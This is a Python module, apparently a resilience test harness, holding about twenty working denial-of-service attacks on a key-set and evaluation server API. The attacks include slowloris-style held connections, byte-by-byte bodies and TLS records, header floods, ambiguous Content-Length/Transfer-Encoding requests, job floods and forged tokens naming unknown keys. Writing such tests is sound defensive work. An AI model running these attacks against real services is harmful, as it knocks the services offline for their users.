"""Attacks on the connections, places and memory of a server, each by one client that goes on until it is
ended."""

from __future__ import annotations

import base64
import contextlib
import http.client
import itertools
import json
import os
import select
import socket
import ssl
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from http import HTTPStatus
from multiprocessing.synchronize import Event
from pathlib import Path
from typing import Protocol

SWEEP_S = 0.05
"""Pause after a look at all connections of an attack."""

CROWD = 600
"""Connections of an attack; a server has 512 places."""

PARALLEL = 64
"""Requests of an attack that are under way together where each of them is answered."""

MESSAGE = 60_000
"""Bytes of a message; the server takes those of its model only."""

ASKERS = 12
"""Clients of an attack that ask for evaluations, each for one at a time."""

PART_BYTES = 4 << 20
"""Bytes of a part of a key set."""

WAITING = 256
"""Requests of an attack that wait for evaluations; a server keeps 128 waiting."""

UNKNOWN = "0" * 32
"""An identifier of a key set that does not exist."""


class Count(Protocol):
    """Number of connections that an attack has begun."""

    value: int


@dataclass(frozen=True)
class Target:
    """A server, and what an attacker has there.

    Attributes:
        host: its name.
        port: its port.
        model: hash of a model.
        keys: the attacker's complete key set.
        message: ciphertexts that the model takes, encrypted for these keys.
        data: the bytes of that key set.
        head: lines of each request's head, such as its authorisation.
        source: address that the attacker connects from; the system's choice if empty.
        kept: the connection of all requests; None for one of each.
    """

    host: str
    port: int
    model: str
    keys: str = UNKNOWN
    message: bytes = b""
    data: bytes = b""
    head: tuple[str, ...] = ()
    source: str = ""
    kept: http.client.HTTPConnection | None = None

    def connect(self) -> socket.socket:
        """Return a new connection."""
        connection = socket.create_connection(
            (self.host, self.port), 10, (self.source, 0) if self.source else None
        )
        connection.setblocking(False)
        return connection

    def request(self, method: str, path: str, length: int, *lines: str) -> bytes:
        """Return the head of a request whose body has a length."""
        head = [f"{method} {path} HTTP/1.1", f"Host: {self.host}", f"Content-Length: {length}"]
        return "\r\n".join([*head, *self.head, *lines, "", ""]).encode()

    def send(self, method: str, path: str, body: bytes = b"") -> tuple[int, bytes]:
        """Send a request, and return status and body of the answer."""
        connection = self.kept or self.opened()
        with contextlib.nullcontext() if connection is self.kept else contextlib.closing(connection):
            headers = dict(line.split(": ", 1) for line in self.head)
            connection.request(method, path, body, headers)
            answer = connection.getresponse()
            return answer.status, answer.read()

    def opened(self) -> http.client.HTTPConnection:
        """Return a new connection for several requests."""
        source = (self.source, 0) if self.source else None
        return http.client.HTTPConnection(self.host, self.port, timeout=60, source_address=source)

    def ask(self, method: str, path: str, body: bytes = b"") -> dict[str, object]:
        """Send a request, and return the answer's JSON."""
        reply: dict[str, object] = json.loads(self.send(method, path, body)[1])
        return reply

    def open_set(self) -> str:
        """Open a key set, and return its path."""
        return f"/v1/keys/{self.ask('POST', '/v1/keys', self.opening)['keys']}"

    def send_set(self, data: bytes) -> str:
        """Upload a key set, and return its identifier."""
        path = self.open_set()
        for begin in range(0, len(data), PART_BYTES):
            status, reply = self.send("PUT", f"{path}/parts?offset={begin}", data[begin : begin + PART_BYTES])
            if status != HTTPStatus.OK:
                raise OSError(f"the server does not take the attacker's keys: {reply!r}")
        return path.rpartition("/")[2]

    @property
    def jobs(self) -> str:
        """The path of evaluations with the attacker's keys."""
        return f"/v1/keys/{self.keys}/jobs?model={self.model}"

    @property
    def opening(self) -> bytes:
        """The body of a request for a new key set."""
        return json.dumps({"model": self.model}).encode()


def crowd(
    target: Target,
    begun: Count,
    start: Callable[[int], bytes],
    *,
    size: int = CROWD,
    drip: bytes = b"",
    reads: bool = True,
) -> None:
    """Hold many connections, and open another for each that the server answers or ends.

    Args:
        target: the server.
        begun: counts connections.
        start: the first bytes of a connection, by its number.
        size: number of connections.
        drip: bytes that each connection sends once a second.
        reads: whether an answer ends a connection; otherwise it stays, unread.
    """
    held: dict[int, socket.socket] = {}
    poll, dripped = select.poll(), time.monotonic()
    ends = select.POLLHUP | select.POLLERR | select.POLLRDHUP | (select.POLLIN if reads else 0)
    while True:
        while len(held) < size:
            try:
                opened = target.connect()
            except OSError:
                break
            with contextlib.suppress(OSError):
                opened.send(start(begun.value))
            begun.value += 1
            held[opened.fileno()] = opened
            poll.register(opened, ends)
        for number, _ in poll.poll(0):
            poll.unregister(number)
            held.pop(number).close()
        if drip and time.monotonic() - dripped > 1:
            dripped = time.monotonic()
            for connection in held.values():
                with contextlib.suppress(OSError):
                    connection.send(drip)
        time.sleep(SWEEP_S)


def bodies(target: Target, begun: Count) -> None:
    """Pieces of an own key set are announced and never sent."""
    path = target.open_set()
    crowd(target, begun, lambda _: target.request("PUT", f"{path}?offset=0", 8 << 20))


def parts(target: Target, begun: Count) -> None:
    """Parts of an own key set are announced, begun and never ended, some of them of no bytes."""
    path = target.open_set()

    def start(number: int) -> bytes:
        length = 0 if number % 4 == 0 else 1 << 20
        return target.request("PUT", f"{path}/parts?offset={number % 64 << 10}", length) + bytes(
            min(length, 1000)
        )

    crowd(target, begun, start)


def unknown(target: Target, begun: Count) -> None:
    """Evaluations with keys that do not exist are announced and never sent."""
    head = target.request("POST", f"/v1/keys/{UNKNOWN}/jobs", MESSAGE)
    crowd(target, begun, lambda _: head, size=PARALLEL)


def slow(target: Target, begun: Count) -> None:
    """Bodies and heads arrive at a byte a second."""
    path = target.open_set()
    body = target.request("PUT", f"{path}?offset=0", 8 << 20)
    crowd(target, begun, lambda number: body if number % 2 else body[:40], drip=b"x")


def messages(target: Target, begun: Count) -> None:
    """Evaluations with own keys are begun with most of a message, which never ends."""
    start = target.request("POST", f"/v1/keys/{target.keys}/jobs", MESSAGE) + bytes(MESSAGE - 1)
    crowd(target, begun, lambda _: start)


def together(work: Callable[[], None], count: int) -> None:
    """Do something again and again, in several threads. What the server refuses is done again."""

    def repeat() -> None:
        while True:
            with contextlib.suppress(OSError, ValueError, KeyError, http.client.HTTPException):
                work()
                continue
            time.sleep(SWEEP_S)

    threads = [threading.Thread(target=repeat, daemon=True) for _ in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def evaluations(target: Target, begun: Count) -> None:
    """Evaluations with own keys are asked for, by several clients of one address, each again when it has its
    answer. They take as long as those of the honest client."""

    def ask() -> None:
        status, _ = target.send("POST", f"{target.jobs}&wait=30", target.message)
        begun.value += status == HTTPStatus.OK
        if status != HTTPStatus.OK:
            time.sleep(SWEEP_S)

    together(ask, ASKERS)


def heavy(target: Target, begun: Count) -> None:
    """The same with a model of the server whose evaluations take several times as long."""
    evaluations(target, begun)


def jobs(target: Target, begun: Count) -> None:
    """Evaluations with own keys are asked for, and nobody waits for their answers or fetches them."""

    def ask() -> None:
        begun.value += target.send("POST", target.jobs, target.message)[0] == HTTPStatus.ACCEPTED

    together(ask, ASKERS)


def waiting(target: Target, begun: Count) -> None:
    """More requests wait for evaluations with own keys than a server keeps waiting."""
    head = target.request("POST", f"{target.jobs}&wait=30", len(target.message))
    crowd(target, begun, lambda _: head + target.message, size=WAITING)


def results(target: Target, begun: Count) -> None:
    """The answer of an own evaluation is requested again and again on each connection, and never read."""
    job = f"/v1/jobs/{target.ask('POST', target.jobs, target.message)['job']}"
    while target.ask("GET", f"{job}?wait=30")["state"] in ("waiting", "running"):
        pass
    head = target.request("GET", f"{job}/result", 0)
    crowd(target, begun, lambda _: head * 20, drip=head, reads=False)


def checks(target: Target, begun: Count) -> None:
    """Whole key sets are uploaded, checked and deleted, again and again."""

    def upload() -> None:
        name = target.send_set(target.data)
        begun.value += 1
        target.send("DELETE", f"/v1/keys/{name}")

    together(upload, 3)


def deletions(target: Target, begun: Count) -> None:
    """From two addresses, evaluations with new key sets are asked for, and they and the sets are deleted."""
    other = target.source.replace("127.0.0.", "127.0.1.")

    def discard(own: Target) -> None:
        with contextlib.closing(own.opened()) as connection:
            own = replace(own, kept=connection)
            while True:
                own = replace(own, keys=own.send_set(own.data))
                status, reply = own.send("POST", own.jobs, own.message)
                if status == HTTPStatus.ACCEPTED:
                    begun.value += 1
                    own.send("DELETE", f"/v1/jobs/{json.loads(reply)['job']}")
                own.send("DELETE", f"/v1/keys/{own.keys}")

    addresses = itertools.cycle([target, replace(target, source=other)])
    together(lambda: discard(next(addresses)), ASKERS)


def answers(target: Target, begun: Count) -> None:
    """Answers are requested again and again on each connection, and never read."""
    head = target.request("GET", "/v1/model", 0)
    crowd(target, begun, lambda _: head * 20, drip=head, reads=False)


def malformed(target: Target, begun: Count) -> None:
    """Bytes that are not a request, heads that can be read in two ways, and heads that never end."""
    host = f"Host: {target.host}\r\n".encode()
    starts = (
        b"POST /v1/keys HTTP/1.1\r\n"
        + host
        + b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        b"GET /v1/model HTTP/1.1\r\n" + host + b"X: a\r\n b\r\n\r\n",
        b"GET /v1/model HTTP/1.1\n" + host + b"\r\n",
        b"\x16\x03\x01\x02\x00\x01" + bytes(500),
        b"GET /v1/model HTTP/1.1\r\n" + host + b"X: " + b"x" * 60_000,
        (b"GET /v1/model?" + b"a=1&" * 10_000 + b" HTTP/1.1\r\n" + host + b"\r\n"),
    )
    crowd(target, begun, lambda number: starts[number % len(starts)], size=PARALLEL)


def heads(target: Target, begun: Count) -> None:
    """Heads of many short headers, long paths and long lists, several on each connection."""
    host = f"GET /health HTTP/1.1\r\nHost: {target.host}\r\n".encode()
    starts = (
        host + b"a:1\r\n" * 12_000 + b"\r\n",
        host + b"a:1\r\n" * 90 + b"\r\n",
        host + b"Accept: " + b"a," * 7_000 + b"\r\n\r\n",
        host.replace(b"/health", b"/a" * 500) + b"\r\n",
    )
    crowd(target, begun, lambda number: starts[number % len(starts)] * 4, size=PARALLEL)


def pieces(target: Target, begun: Count) -> None:
    """Bodies and heads are sent byte by byte, as fast as the system sends them."""
    starts = (target.request("PUT", f"{target.open_set()}?offset=0", 8 << 20), b"GET /")

    def send() -> None:
        with contextlib.closing(target.connect()) as connection:
            connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            connection.setblocking(True)
            connection.sendall(starts[begun.value % len(starts)])
            begun.value += 1
            while True:
                connection.sendall(b"x")

    together(send, ASKERS)


def handshakes(target: Target, begun: Count) -> None:
    """Connections to a server that speaks TLS say nothing, or begin to."""
    crowd(target, begun, lambda number: b"\x16\x03\x01" if number % 2 else b"")


def records(target: Target, begun: Count) -> None:
    """Requests to a server that speaks TLS are sent byte by byte, each in a record of its own, as fast as the
    system sends them."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE

    def send() -> None:
        with contextlib.closing(target.connect()) as plain:
            plain.setblocking(True)
            with context.wrap_socket(plain) as connection:
                connection.sendall(b"GET / HTTP/1.1\r\na: ")
                begun.value += 1
                while True:
                    connection.sendall(b"x")

    together(send, ASKERS)


def sets(target: Target, begun: Count) -> None:
    """Empty key sets are opened: one on a connection, or many one after the other."""
    head = target.request("POST", "/v1/keys", len(target.opening)) + target.opening
    crowd(
        target,
        begun,
        lambda number: head * (number % 2 * 50 or 1),
        size=PARALLEL,
        drip=head * 50,
        reads=False,
    )


def openings(target: Target, begun: Count) -> None:
    """Key sets are opened, and the first piece of each arrives together with those of the others."""
    opened: list[str] = []

    def start(number: int) -> bytes:
        if len(opened) < PARALLEL or number % 8 == 0:
            # The server refuses above a number.
            with contextlib.suppress(OSError, ValueError, KeyError, http.client.HTTPException):
                opened.append(target.open_set())
        path = opened[-1 - number % min(len(opened), PARALLEL)] if opened else f"/v1/keys/{UNKNOWN}"
        return target.request("PUT", f"{path}?offset=0", 1 << 20) + bytes(1 << 12)

    crowd(target, begun, start, size=2 * PARALLEL)


def token(number: int) -> str:
    """Return a token that names a key of its own."""
    parts = ({"alg": "RS256", "kid": f"unknown-{number}-{os.urandom(4).hex()}"}, {"sub": "x"})
    return ".".join(
        base64.urlsafe_b64encode(data).decode().rstrip("=")
        for data in (*(json.dumps(part).encode() for part in parts), bytes(256))
    )


def issuer(target: Target, begun: Count) -> None:
    """Tokens name keys that the issuer, which is slow, does not have."""

    def start(number: int) -> bytes:
        return target.request("GET", "/v1/keys", 0, f"Authorization: Bearer {token(number)}")

    crowd(target, begun, start, size=48)


ATTACKS: dict[str, Callable[[Target, Count], None]] = {
    attack.__name__: attack
    for attack in (
        bodies,
        parts,
        unknown,
        slow,
        messages,
        evaluations,
        heavy,
        jobs,
        waiting,
        results,
        checks,
        deletions,
        malformed,
        heads,
        pieces,
        answers,
        handshakes,
        records,
        sets,
        openings,
        issuer,
    )
}


def run(name: str, target: Target, begun: Count, ready: Event, go: Event) -> None:
    """Attack from ``go`` on until this process is ended. It takes the processors' idle time alone, because an
    attacker has processors of its own; at a low priority, the threads of an attack that sends as fast as the
    system does weighed as much as the server."""
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    # Linux may share processors among sessions first: in that of the honest client, an idle process weighs as
    # much as the client while that waits.
    os.setsid()
    with contextlib.suppress(OSError):
        Path("/proc/self/autogroup").write_text("19", encoding="ascii")
    ready.set()
    go.wait()
    while True:
        # A server that refuses its set-up is attacked again.
        with contextlib.suppress(OSError, ValueError, KeyError, http.client.HTTPException):
            ATTACKS[name](target, begun)
        time.sleep(SWEEP_S)


def named() -> Iterator[tuple[str, str]]:
    """Yield the names of the attacks, and what each does."""
    for name, attack in ATTACKS.items():
        yield name, " ".join((attack.__doc__ or "").split())
